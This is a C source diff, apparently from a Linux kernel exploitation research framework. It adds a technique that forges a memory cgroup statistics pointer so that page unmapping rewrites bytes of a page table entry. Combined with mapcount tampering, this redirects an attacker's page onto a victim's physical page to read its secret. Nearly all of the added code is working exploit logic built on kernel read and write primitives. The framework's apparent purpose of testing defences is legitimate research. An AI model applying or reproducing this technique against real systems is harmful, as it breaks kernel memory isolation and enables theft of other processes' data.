@@ -4,7 +4,9 @@
  * counters are found by pointers in ordinary memory.
  */
 #include <errno.h>
+#include <stdio.h>
 #include <sys/mman.h>
+#include <unistd.h>
 
 #include "attack.h"
 #include "list.h"
@@ -81,4 +83,180 @@ static int store_after_counting(const void *how, uint64_t slot, uint64_t value)
 enum outcome rss_counter(void)
 {
 	return steal_secret_by(store_after_counting, NULL);
+}
+
+/*
+ * The same with the statistics of a memory cgroup, which struct page names.
+ * What is subtracted there is compared with nothing: byte by byte it moves an
+ * entry from a page of the attacker's down to the victim's.
+ */
+#define MEMCG_SIZE	PAGE_SIZE	/* at most */
+#define PER_NODE_STATS	8	/* of a struct mem_cgroup_per_node; its memcg is first */
+#define PER_CPU_END	(1UL << 40)	/* of per-CPU pointers */
+#define STATS		64	/* at most */
+#define FILE_PAGES	256
+#define OWN_PAGES	65536	/* at most */
+
+struct statistics {
+	uint64_t memcg;
+	struct kernel_page forged, node;
+	int index;		/* of mapped pages of files */
+};
+
+static uint64_t find_node(uint64_t memcg, size_t *offset)
+{
+	uint64_t words[PAGE_SIZE / sizeof(uint64_t)];
+
+	kread(memcg, words, sizeof(words));
+	for (*offset = 0; *offset < sizeof(words); *offset += sizeof(*words)) {
+		uint64_t node = words[*offset / sizeof(*words)];
+
+		if (is_kernel_address(node) && kread64(node) == memcg &&
+		    kread64(node + PER_NODE_STATS) < PER_CPU_END)
+			return node;
+	}
+	return 0;
+}
+
+static bool copy_page(const struct kernel_page *to, uint64_t from)
+{
+	char copy[PAGE_SIZE];
+
+	return !kread(from, copy, sizeof(copy)) && !kwrite(to->addr, copy, sizeof(copy));
+}
+
+static char *map_file(int fd, int pages)
+{
+	char *at = mmap(NULL, pages * PAGE_SIZE, PROT_READ, MAP_SHARED | MAP_POPULATE, fd, 0);
+
+	/* Nobody shall take a page for one that was used, and move it to another list. */
+	madvise(at, pages * PAGE_SIZE, MADV_RANDOM);
+	return at;
+}
+
+/* The statistic that mapping them adds to. */
+static int find_index(uint64_t node, int fd)
+{
+	uint64_t at = kread64(node + PER_NODE_STATS) + offset_of_cpu();
+	long before[STATS], after[STATS];
+	char *file;
+	int i;
+
+	kread(at, before, sizeof(before));
+	file = map_file(fd, FILE_PAGES);
+	kread(at, after, sizeof(after));
+	munmap(file, FILE_PAGES * PAGE_SIZE);
+	for (i = 0; i < STATS; i++)
+		if (after[i] - before[i] == FILE_PAGES)
+			return i;
+	return -1;
+}
+
+static bool forge_statistics(struct statistics *stats, int fd)
+{
+	char *file = map_file(fd, 1);
+	struct slot slot;
+	uint64_t node;
+	size_t offset;
+
+	if (kwalk((uint64_t)file, LEAF, 0, &slot) || munmap(file, PAGE_SIZE))
+		return false;
+	stats->memcg = kread64(slot.page + PAGE_MEMCG);
+	node = stats->memcg ? find_node(stats->memcg, &offset) : 0;
+	if (!node || !kernel_page(&stats->forged) || !kernel_page(&stats->node))
+		return false;
+	stats->index = find_index(node, fd);
+	return stats->index >= 0 && copy_page(&stats->forged, stats->memcg) &&
+	       copy_page(&stats->node, node) &&
+	       !kwrite64(stats->forged.addr + offset, stats->node.addr);
+}
+
+static int name_memcg(const char *file, int pages, uint64_t memcg, uint64_t *page)
+{
+	struct slot slot;
+	int i, err = 0;
+
+	for (i = 0; i < pages && !err; i++) {
+		if (file && !kwalk((uint64_t)file + i * PAGE_SIZE, LEAF, 0, &slot))
+			page[i] = slot.page;
+		err = kwrite64(page[i] + PAGE_MEMCG, memcg);
+	}
+	return err;
+}
+
+/* Unmap as many pages of the file. */
+static int subtract(const struct statistics *stats, int fd, uint64_t target, int nr)
+{
+	uint64_t page[FILE_PAGES];
+	char *file;
+	int err;
+
+	if (!nr)
+		return 0;
+	file = map_file(fd, nr);
+	err = kwrite64(stats->node.addr + PER_NODE_STATS,
+		       target - stats->index * sizeof(long) - offset_of_cpu());
+	err = err ?: name_memcg(file, nr, stats->forged.addr, page);
+	munmap(file, nr * PAGE_SIZE);
+	return name_memcg(NULL, nr, stats->memcg, page) ?: err;
+}
+
+/* Each byte of the entry has units of its own: 1/16, 16 and 4096 pages. */
+static int move_entry(const struct statistics *stats, int fd, uint64_t slot, uint64_t pages)
+{
+	int err = subtract(stats, fd, slot + 1, pages % 16 * 16);
+
+	err = err ?: subtract(stats, fd, slot + 2, pages / 16 % 256);
+	return err ?: subtract(stats, fd, slot + 3, pages / 4096);
+}
+
+/* One of ours that lies behind the victim's. */
+static volatile char *own_page_behind(uint64_t phys, struct slot *slot)
+{
+	volatile char *own = mmap(NULL, OWN_PAGES * PAGE_SIZE, PROT_READ | PROT_WRITE,
+				  MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
+	int i;
+
+	for (i = 0; i < OWN_PAGES; i++, own += PAGE_SIZE) {
+		*own = 1;
+		if (!kwalk((uint64_t)own, LEVEL_PTE, 0, slot) && slot->phys > phys)
+			return own;
+	}
+	return NULL;
+}
+
+/* It is mapped once more now, as those who unmap it will believe. */
+static void count_mapping(uint64_t phys)
+{
+	uint64_t page = page_of(direct_map_base() + phys);
+	int count;
+
+	kread(page + PAGE_MAPCOUNT, &count, sizeof(count));
+	count++;
+	kwrite(page + PAGE_MAPCOUNT, &count, sizeof(count));
+	add_reference(page, 1);
+}
+
+enum outcome memcg_statistics(void)
+{
+	int fd = memfd_create("statistics", 0), err;
+	uint64_t phys = victim_phys() & -PAGE_SIZE;
+	struct statistics stats;
+	volatile char *own;
+	struct slot slot;
+	char text[64];
+
+	stay_on_cpu(0);
+	if (fd < 0 || ftruncate(fd, FILE_PAGES * PAGE_SIZE) || !forge_statistics(&stats, fd))
+		return broken("no statistics found");
+	own = own_page_behind(phys, &slot);
+	if (!own)
+		return broken("no page behind the victim's");
+	err = move_entry(&stats, fd, slot.slot, (slot.phys - phys) / PAGE_SIZE);
+	if (((slot.value ^ kread64(slot.slot)) & PTE_PFN_MASK) == 0)
+		return lost("the stores gave %d, and the entry is as it was", err);
+	flush_tlb();
+	count_mapping(phys);
+	snprintf(text, sizeof(text), "%s", (char *)own);
+	return judge_secret(text, err);
 }
